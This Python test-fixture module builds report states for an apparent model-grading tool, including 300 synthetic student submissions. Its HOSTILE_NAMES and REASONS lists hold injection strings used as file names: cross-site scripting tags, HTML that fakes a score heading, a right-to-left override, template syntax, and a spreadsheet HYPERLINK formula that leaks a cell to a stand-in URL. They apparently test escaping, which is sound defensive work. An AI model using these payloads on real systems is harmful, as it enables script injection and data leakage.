"""States of a report that are worth looking at, each made from the files of a real small training.

Each function takes an evaluation and the ``metrics.json`` of the runs in it, by name, and returns
changed copies of both.
"""

import copy
import hashlib
import math
from fractions import Fraction
from pathlib import Path

import numpy as np

from common.data.arrays import LabelledImages
from common.data.catalog import MNIST
from common.metrics import proportion
from evaluations.rows import ClassAnswers, FileInfo, graded_row, ungraded_row
from grading.intake.rows import assign_ranks, isolation_of, mark_duplicates

HOSTILE_NAMES = (
    "\"'><script>alert(1)</script><img src=x onerror=alert(2)>",
    "\u202ehtp.noissimbus",
    "تسليم الطالب.pth",
    "🏆👩\u200d💻🇫🇷 modèle.pth",
    "two\nlines\tand a tab.pth",
    "w" * 300,
    '=HYPERLINK("http://example.org/?"&A1;"prize")',
    " ",
    "\u200b",
    ".",
    "{{ 7 * 7 }}{% raw %}",
    "</table></main><h1>100.00 %</h1>",
)
REASONS = (
    "the file is empty",
    "unknown kind of file: hand in one of .pth, .pt, .safetensors, .onnx, .csv",
    "took longer than 30 s",
    "not a checkpoint: it names '\"><script>alert(3)</script>' and \u202e, which it may not",
    "x" * 300,
)
KINDS = {
    ".pth": "checkpoint",
    ".safetensors": "safetensors",
    ".onnx": "onnx",
    ".csv": "predictions",
}


def default(evaluation, runs):
    return copy.deepcopy(evaluation), copy.deepcopy(runs)


def failing(evaluation, runs):
    evaluation, runs = default(evaluation, runs)
    evaluation["threshold"] = 99.9
    for row in evaluation["results"]:
        row["status"] = "fail"
    return evaluation, runs


def one_run(evaluation, runs):
    evaluation, runs = default(evaluation, runs)
    rows = [row for row in evaluation["results"] if row["name"] == "base"]
    return evaluation | {"best": "base", "comparisons": [], "results": rows}, {"base": runs["base"]}


def three_runs(evaluation, runs):
    """Another run of the base network, with other settings and on other training images."""
    evaluation, runs = default(evaluation, runs)
    rows = evaluation["results"]
    rows.append(copy.deepcopy(rows[0]) | {"name": "faster", "source": "runs/faster"})
    (pair,) = evaluation["comparisons"]
    evaluation["comparisons"].append(copy.deepcopy(pair) | {"a": "improved", "b": "faster"})
    for corruption in evaluation["robustness"]["corruptions"]:
        corruption["runs"].append(corruption["runs"][0] | {"run": "faster"})
    runs["faster"] = copy.deepcopy(runs["base"]) | {"name": "faster"}
    faster = runs["faster"]
    faster["recipe"]["optimizer"]["lr"] = faster["recipe"]["schedule"]["initial_lr"] = 0.003
    faster["recipe"]["val_size"] = 0
    data, counts = faster["data"], faster["data"]["class_counts"]
    counts["train"] = [sum(both) for both in zip(counts["train"], counts["val"], strict=True)]
    counts["val"] = [0] * len(counts["train"])
    data |= {"train_size": data["train_size"] + data["val_size"], "val_size": 0}
    return evaluation, runs


def five_runs(evaluation, runs):
    """Three more runs of the base network, each a little worse than the one before."""
    evaluation, runs = default(evaluation, runs)
    for rate in (0.003, 0.0002, 0.00005):
        name = f"base-{rate:g}"
        row = copy.deepcopy(evaluation["results"][0]) | {"name": name, "source": f"runs/{name}"}
        correct = evaluation["results"][-1]["validation"]["correct"] - 1
        row["validation"] = proportion(correct, row["validation"]["total"])
        evaluation["results"].append(row)
        evaluation["comparisons"].append(
            evaluation["comparisons"][0] | {"a": "improved", "b": name}
        )
        runs[name] = copy.deepcopy(runs["base"]) | {"name": name}
        runs[name]["recipe"]["optimizer"]["lr"] = rate
    return evaluation, runs


def broken_run(evaluation, runs):
    evaluation, runs = default(evaluation, runs)
    reason = "the folder has no checkpoint.pth"
    rows = [_broken(r, reason) if r["name"] == "improved" else r for r in evaluation["results"]]
    return evaluation | {"best": "base", "comparisons": [], "results": rows}, runs


def all_broken(evaluation, runs):
    evaluation, runs = default(evaluation, runs)
    reasons = ("the folder has no checkpoint.pth", "cannot be read: Permission denied")
    rows = [_broken(*both) for both in zip(evaluation["results"], reasons, strict=True)]
    return evaluation | {"best": None, "comparisons": [], "results": rows}, runs


def without_validation(evaluation, runs):
    evaluation, runs = default(evaluation, runs)
    evaluation["best"] = None
    for row in evaluation["results"]:
        row["validation"] = None
        row["confidence"] |= {"temperature": None, "after": None}
    for metrics in runs.values():
        data, counts = metrics["data"], metrics["data"]["class_counts"]
        counts["train"] = [sum(both) for both in zip(counts["train"], counts["val"], strict=True)]
        counts["val"] = [0] * len(counts["train"])
        data |= {"train_size": data["train_size"] + data["val_size"], "val_size": 0}
        metrics["temperature"] = None
        for epoch in metrics["history"]:
            epoch |= dict.fromkeys(("val_loss", "val_accuracy", "val_correct", "val_total"))
    return evaluation, runs


def short_history(evaluation, runs):
    return _with_epochs(evaluation, runs, 1)


def long_history(evaluation, runs):
    return _with_epochs(evaluation, runs, 500)


def submissions(evaluation, runs, count=300):
    evaluation, _ = default(evaluation, runs)
    measured = evaluation["results"]
    rows = [
        _error_row(number) if number % 8 == 7 else _graded_row(number, count, evaluation, measured)
        for number in range(count)
    ]
    mark_duplicates(rows)
    assign_ranks(rows, rows)
    return {
        **evaluation,
        "command": ["evaluate.py", "submissions/", "--leaderboard"],
        "output": "runs/grading/evaluation.json",
        "best": None,
        "comparisons": [],
        "limits": {"memory_gib": 2.0, "timeout_seconds": 30.0},
        "complete": True,
        "results": rows,
        "isolation": isolation_of(rows),
    }, {}


STATES = {
    function.__name__: function
    for function in (
        default,
        failing,
        one_run,
        three_runs,
        five_runs,
        broken_run,
        all_broken,
        without_validation,
        submissions,
        short_history,
        long_history,
    )
}


def _broken(row, reason):
    return ungraded_row(row["name"], Path(row["source"]), "run", own=True) | {"reason": reason}


def _with_epochs(evaluation, runs, epochs):
    evaluation, runs = default(evaluation, runs)
    for row in evaluation["results"]:
        row["epoch"] = epochs
    for metrics in runs.values():
        first, last = metrics["history"][0], metrics["history"][-1]
        metrics["recipe"]["epochs"] = epochs
        metrics["history"] = [
            # Quick at first, then ever slower, as curves are.
            _between(first, last, 1 - math.exp(-8 * number / epochs)) | {"epoch": number + 1}
            for number in range(epochs)
        ]
    return evaluation, runs


def _between(first, last, share):
    return {key: first[key] + share * (last[key] - first[key]) for key in first}


def _submission(number):
    """The row of a submission before it is graded."""
    suffix = list(KINDS)[number % len(KINDS)]
    ordinary = f"student-{number:03d}{suffix}"
    name = HOSTILE_NAMES[number] if number < len(HOSTILE_NAMES) else ordinary
    return ungraded_row(name, Path("submissions") / name, KINDS[suffix], own=False)


def _error_row(number):
    reason = REASONS[number // 8 % len(REASONS)]
    opened = {"sha256": _sha256(number), "isolation": "process"}
    row = _submission(number) | {"reason": reason}
    # What could not even be opened has no checksum.
    return row | opened if number % 16 == 7 else row | {"kind": "unknown"}


def _graded_row(number, count, evaluation, measured):
    original = measured[number % len(measured)]
    targets, classes = _answers(np.array(original["confusion_matrix"]))
    # A few leave the answers as they are, and so are equal to each other.
    moved = round(len(targets) * 0.5 * max(0, number / count - 0.1) ** 3)
    chosen = np.random.default_rng(number).choice(len(targets), moved, replace=False)
    classes[chosen] = (targets[chosen] + 1) % 10
    info = FileInfo(
        architecture=original["architecture"],
        parameters=original["parameters"],
        epoch=original["epoch"],
        claimed_accuracy={2: 99.5, 13: 1e300}.get(number % 20),
        notes="weights in half precision" if number % 25 == 3 else "",
    )
    test_set = LabelledImages("", np.empty((0, 28, 28), np.uint8), targets, {}, MNIST)
    row = _submission(number) | {"sha256": _sha256(number), "isolation": "process"}
    answers = ClassAnswers(classes, info)
    row = graded_row(row, answers, test_set, Fraction(evaluation["threshold"]))
    return row if row["kind"] == "predictions" else row | {"loss": original["loss"]}


def _answers(matrix):
    """Return targets and classes that have this confusion matrix."""
    truth, answer = np.indices(matrix.shape)
    return np.repeat(truth, matrix.ravel()), np.repeat(answer, matrix.ravel())


def _sha256(number):
    return hashlib.sha256(str(number).encode()).hexdigest()
